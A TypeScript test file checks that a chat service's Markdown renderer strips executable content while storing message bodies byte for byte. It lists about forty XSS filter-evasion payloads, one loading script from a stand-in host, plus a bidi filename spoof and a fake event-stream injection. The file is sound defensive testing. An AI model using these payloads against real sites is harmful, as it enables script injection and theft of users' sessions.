import { expect } from 'chai';
import type { MessagePageResponse, MessageResponse } from '@chat/contracts';
import { expectStatus } from '../harness/assertions.ts';
import { executableParts } from '../harness/html-safety.ts';
import { MODES, sharedStack, type Stack } from '../harness/stacks.ts';

/** Script-capable markup written every way a filter is usually evaded. */
const XSS_VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](java\tscript:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](jav&#x09;ascript:alert(1))',
  '[click](  javascript:alert(1))',
  '[click](vbscript:msgbox(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](javascript:alert(1))',
  '![x"onerror="alert(1)](http://example.com/a.png)',
  '[x](http://example.com/"onmouseover="alert(1))',
  '<a href="http://example.com" onclick="alert(1)">x</a>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<<script>script>alert(1)<</script>/script>',
  '<scr<script>ipt>alert(1)</script>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '[ref]\n\n[ref]: javascript:alert(1)',
  '<http://example.com/?q="><script>alert(1)</script>>',
  '<javascript:alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u0000<script>alert(1)</script>',
  '<img src="x" onerror\u0000="alert(1)">',
];

for (const mode of MODES) {
  describe(`[${mode}] rendering: renderedHtml is safe, bodyMarkdown is kept byte for byte`, function () {
    this.timeout(60_000);
    let stack: Stack;
    before(async () => {
      stack = await sharedStack(mode);
    });

    it('section 2 renderedHtml: no XSS vector survives rendering, and bodyMarkdown is stored byte-equal', async () => {
      const { scenario, actors } = await stack.scenario();
      const scope = { repositoryId: scenario.repositoryId };
      const token = await actors.writer();
      const appended: MessageResponse[] = [];
      for (const vector of XSS_VECTORS) {
        const res = await stack.api.append<MessageResponse>(scope, token, { bodyMarkdown: vector });
        expectStatus(res, 201);
        expect(res.body.renderPolicy).to.equal('sanitized_markdown_html_v1');
        expect(executableParts(res.body.renderedHtml), `${vector} → ${res.body.renderedHtml}`).to.deep.equal([]);
        expect(Buffer.from(res.body.bodyMarkdown, 'utf8').equals(Buffer.from(vector, 'utf8')), vector).to.equal(true);
        appended.push(res.body);
      }
      const list = await stack.api.list<MessagePageResponse>(scope, token, 'limit=200');
      expect(list.body.items.map((m) => m.bodyMarkdown)).to.deep.equal(XSS_VECTORS);
      expect(list.body.items.map((m) => m.renderedHtml)).to.deep.equal(appended.map((m) => m.renderedHtml));
    });

    it('section 2 renderedHtml: ordinary Markdown still renders, and links get rel="nofollow noopener noreferrer"', async () => {
      const { scenario, actors } = await stack.scenario();
      const res = await stack.api.append<MessageResponse>({ repositoryId: scenario.repositoryId }, await actors.writer(), { bodyMarkdown: '# Title\n\n*em* and `code` and [site](https://example.com/a?b=1)\n\n- one\n- two' });
      expectStatus(res, 201);
      const html = res.body.renderedHtml;
      expect(html).to.contain('<em>em</em>').and.to.contain('<code>code</code>').and.to.contain('<li>one</li>');
      expect(html).to.match(/<a [^>]*href="https:\/\/example\.com\/a\?b=1"/);
      expect(html).to.match(/rel="nofollow noopener noreferrer"/);
    });

    it('section 2 bodyMarkdown: NUL, CR, CRLF, U+2028, U+2029, BOM, bidi controls and astral characters are stored byte for byte', async () => {
      const { scenario, actors } = await stack.scenario();
      const scope = { repositoryId: scenario.repositoryId, branchId: scenario.branchId };
      const bodies = ['a\u0000b', 'line1\r\nline2\rline3\n', 'sep\u2028para\u2029end', '\uFEFFbom', 'rtl \u202Egnp.exe', 'tab\there', '𝔘𝔫𝔦𝔠𝔬𝔡𝔢 😀 e\u0301', '  leading and trailing  ', '\\u0000 not an escape', 'data: fake\n\nevent: message\nid: 1\n\n'];
      const token = await actors.writer();
      for (const body of bodies) {
        const res = await stack.api.append<MessageResponse>(scope, token, { bodyMarkdown: body });
        expectStatus(res, 201);
        expect(res.body.bodyMarkdown).to.equal(body);
        expect(res.body.bodyBytes).to.equal(Buffer.byteLength(body, 'utf8'));
      }
      const list = await stack.api.list<MessagePageResponse>(scope, token);
      expect(list.body.items.map((m) => Buffer.from(m.bodyMarkdown, 'utf8').toString('hex'))).to.deep.equal(bodies.map((b) => Buffer.from(b, 'utf8').toString('hex')));
      for (const m of list.body.items) expect(m.renderedHtml).to.not.contain('\u0000');
    });
  });
}
